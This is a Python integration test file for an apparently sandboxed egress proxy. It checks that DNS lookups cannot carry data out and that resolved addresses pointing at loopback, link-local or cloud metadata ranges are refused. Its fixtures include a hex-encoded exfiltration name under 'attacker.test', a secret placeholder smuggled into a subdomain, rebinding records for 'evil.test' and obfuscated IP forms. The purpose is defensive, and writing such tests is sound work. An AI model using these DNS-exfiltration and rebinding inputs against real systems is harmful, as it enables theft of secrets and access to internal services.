"""Questions to name servers as a way out, and answers of name servers as a way in."""

from __future__ import annotations

import base64

import pytest
from dns.message import Message, from_wire, make_query
from dns.rcode import NXDOMAIN

from cloche.model.egress import EgressPolicy, EgressRule, Secret
from tests.integration.dns_server import DnsServer
from tests.integration.door_guest import DoorProcess, StandInGuest
from tests.integration.door_world import echo, upstream

LEAK = "4c6f6f6b2c20612076616c7565.attacker.test"
#: none of these lets code make anybody ask the attacker's name server before a connection was decided
POLICIES = {
    "deny": EgressPolicy(),
    "ask": EgressPolicy(default="ask"),
    "one name": EgressPolicy(rules=[EgressRule(hosts=["up.test"])]),
    "names below": EgressPolicy(rules=[EgressRule(hosts=["**.up.test"])]),
    "a range": EgressPolicy(rules=[EgressRule(cidrs=["10.0.0.0/8"])]),
    "any name denied": EgressPolicy(default="allow", rules=[EgressRule(action="deny", hosts=["**.attacker.test"])]),
    "ask before all": EgressPolicy(default="allow", rules=[EgressRule(action="ask", hosts=["*"])]),
    "a preset": EgressPolicy(rules=[EgressRule(preset="pypi")]),
    "another port is denied": EgressPolicy(default="ask", rules=[EgressRule(action="deny", ports=["22"])]),
}
#: the leak is before what looks like an allowed name, or behind it
ALIKE = ["attacker.test", "xup.test", "up.test.attacker.test", "up-test", "up.tests"]


def query(guest: StandInGuest, name: str, kind: str) -> Message:
    asked = make_query(name, kind)
    guest.say(op="query", id=9, message=base64.b64encode(asked.to_wire()).decode())
    answer = from_wire(base64.b64decode(guest.hear()["message"]))
    assert answer.id == asked.id
    return answer


@pytest.mark.parametrize("kind", POLICIES)
def test_names_carry_nothing_out(door: DoorProcess, guest: StandInGuest, dns: DnsServer, kind: str) -> None:
    door.attach(guest, POLICIES[kind])
    for name in (LEAK, LEAK.upper(), LEAK + "."):
        guest.resolve(name)
    for other in ("TXT", "MX", "NS", "CNAME", "NULL", "ANY", "HTTPS", "SVCB", "TYPE65399", "DNSKEY"):
        assert query(guest, LEAK, other).answer == []
    assert dns.asked == []


@pytest.mark.parametrize("name", ALIKE)
def test_names_that_look_like_an_allowed_one(door: DoorProcess, guest: StandInGuest, dns: DnsServer, name: str) -> None:
    door.attach(guest, POLICIES["names below"])
    assert guest.resolve(name) == "no"
    assert query(guest, name, "TXT").rcode() == NXDOMAIN
    assert dns.asked == []


def test_somebody_who_is_to_be_asked_is_asked_before_the_name_server(
    door: DoorProcess, guest: StandInGuest, dns: DnsServer
) -> None:
    door.attach(guest, POLICIES["ask"])
    assert guest.resolve(LEAK) == "yes"
    guest.connect(LEAK, 443, "socks")
    assert door.event("egress_ask")["host"] == LEAK.lower()
    assert dns.asked == []


def test_a_secret_lets_only_its_own_host_be_asked_for(door: DoorProcess, guest: StandInGuest, dns: DnsServer) -> None:
    from cloche.egress.messages import GivenSecret

    placeholder = "cloche-secret-" + "0" * 32
    given = GivenSecret(secret=Secret(name="T", hosts=["up.test"]), value="v" * 20, placeholder=placeholder)
    door.attach(guest, EgressPolicy(), secrets=[given])
    assert guest.resolve("up.test") == "yes"
    assert guest.resolve(placeholder + ".attacker.test") == "no"
    assert {name for name, _ in dns.asked} == {"up.test"}


@pytest.mark.parametrize(
    ("kind", "records"),
    [
        ("A", ["127.0.0.1"]),
        ("A", ["0.0.0.0"]),
        ("A", ["169.254.169.254"]),
        ("A", ["198.18.0.5"]),
        ("AAAA", ["::1"]),
        ("AAAA", ["::"]),
        ("AAAA", ["::ffff:127.0.0.1"]),
        ("AAAA", ["::127.0.0.1"]),
        ("AAAA", ["64:ff9b::7f00:1"]),
        ("AAAA", ["64:ff9b:1::7f00:1"]),
        ("AAAA", ["2002:7f00:1::1"]),
        ("AAAA", ["fe80::1"]),
        ("AAAA", ["fd00:ec2::254"]),
        ("CNAME", ["localhost."]),
    ],
)
def test_a_name_that_leads_home(
    door: DoorProcess, guest: StandInGuest, dns: DnsServer, kind: str, records: list[str]
) -> None:
    dns.add("evil.test", records, kind=kind)
    dns.add("localhost", "127.0.0.1")
    with upstream(echo) as server:
        door.attach(guest, EgressPolicy(default="allow"))
        answer = guest.connect("evil.test", server.port, "socks").answer()
        assert answer["code"] == ("failed" if kind == "CNAME" else "denied")
        assert server.count == 0


def test_a_denied_range_in_another_form(door: DoorProcess, guest: StandInGuest, dns: DnsServer) -> None:
    """Who denies an IPv4 range means the same place in IPv6, too."""
    dns.add("evil.test", ["::ffff:192.0.2.7"], kind="AAAA")
    dns.add("evil6.test", ["64:ff9b::192.0.2.7"], kind="AAAA")
    door.attach(guest, EgressPolicy(default="allow", rules=[EgressRule(action="deny", cidrs=["192.0.2.0/24"])]))
    for host in ("evil.test", "evil6.test", "::ffff:192.0.2.7", "64:ff9b::c000:207", "192.0.2.7", "0xc0.0.519"):
        assert guest.connect(host, 9, "socks").answer()["code"] == "denied", host
